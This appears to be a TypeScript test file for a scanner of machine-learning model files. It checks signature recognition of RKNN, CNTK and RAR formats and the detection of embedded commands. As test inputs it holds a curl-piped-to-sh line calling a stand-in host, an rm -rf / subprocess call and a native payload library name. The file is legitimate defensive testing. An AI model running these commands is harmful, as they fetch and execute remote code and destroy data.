import { test } from 'node:test';
import assert from 'node:assert/strict';
import { memorySource } from '../io/byte-source.ts';
import { opaqueFormat } from '../formats/opaque-formats.ts';
import { scanFile } from './scan-file.ts';

const text = (s: string) => new TextEncoder().encode(s);
const utf16 = (s: string) => Uint8Array.from([...s].flatMap((c) => [c.charCodeAt(0), 0]));
const join = (...parts: Uint8Array[]) => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.byteLength, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.byteLength;
  }
  return out;
};
const filler = new Uint8Array(64).fill(0xa5);

const rknn = join(text('RKNN'), new Uint8Array([0, 0, 0, 1]), filler, text('{"target":"rk3588"}'), filler);
const cntkLegacy = join(utf16('BCN\u0000'), filler, utf16('BVersion\u0000'), filler);
const cntkV2 = join(
  text('\u0008\u0001\u0012\u0010\n\u0007version'),
  filler,
  text('\n\u0003uid'),
  text('CompositeFunction'),
  filler,
);
const rar5 = join(text('Rar!\u001a\u0007\u0001\u0000'), filler);

async function scan(name: string, bytes: Uint8Array) {
  return scanFile(memorySource(name, bytes));
}

test('RKNN, CNTK (v1 and v2) and RAR are recognised by their signatures and are never benign', async () => {
  for (const [name, bytes, format] of [
    ['m.rknn', rknn, 'rknn'],
    ['m.dnn', cntkLegacy, 'cntk'],
    ['m.cmf', cntkV2, 'cntk'],
    ['m.rar', rar5, 'rar'],
  ] as const) {
    const outcome = await scan(name, bytes);
    assert.equal(outcome.format, format, name);
    assert.equal(outcome.verdict, 'unverified', name);
    assert.match(outcome.reason ?? '', /recognised by its signature/);
  }
});

test('recognition needs the whole signature: a CNTK v1 marker without its version section is not CNTK', () => {
  assert.equal(opaqueFormat(join(utf16('BCN\u0000'), filler)), null);
  assert.equal(opaqueFormat(join(text('\n\u0007version'), text('\n\u0003uid'), filler)), null);
  assert.equal(opaqueFormat(text('RKN')), null);
  assert.equal(opaqueFormat(text('Rar!\u001a\u0007\u0002')), null);
});

test('a shell command written inside an opaque model makes it suspicious, naming the text', async () => {
  const outcome = await scan('m.rknn', join(rknn, text("os.system('curl http://x.example/p | sh')"), filler));
  assert.equal(outcome.verdict, 'suspicious');
  assert.ok(outcome.findings.some((f) => f.code === 'MG-SCAN-543' && f.detail.includes('curl http://x.example')));
});

test('a CNTK model that names a native user function is suspicious', async () => {
  const outcome = await scan('m.cmf', join(cntkV2, text('native_user_function:libpayload.so'), filler));
  assert.equal(outcome.verdict, 'suspicious');
  assert.ok(outcome.findings.some((f) => f.code === 'MG-SCAN-544'));
});

test('command text across a 1 MiB window boundary is still found', async () => {
  const pad = new Uint8Array((1 << 20) - rknn.byteLength - 10).fill(0);
  const outcome = await scan('m.rknn', join(rknn, pad, text('subprocess.run(["rm","-rf","/"])'), filler));
  assert.ok(outcome.findings.some((f) => f.code === 'MG-SCAN-543'));
});

test('an ONNX model still opens as ONNX whatever the length of its producer name', async () => {
  const { looksLikeOnnx } = await import('../formats/onnx.ts');
  const named = (name: string) => join(new Uint8Array([0x08, 0x07, 0x12, name.length]), text(name));
  assert.equal(looksLikeOnnx(named('pytorch')), true);
  const long = 'p'.repeat(200);
  assert.equal(looksLikeOnnx(join(new Uint8Array([0x08, 0x07, 0x12, 0xc8, 0x01]), text(long))), true);
  assert.equal(looksLikeOnnx(new Uint8Array([0x08, 0x07, 0x12, 0x00, 0x1a])), true);
  assert.equal(looksLikeOnnx(cntkV2), false);
});
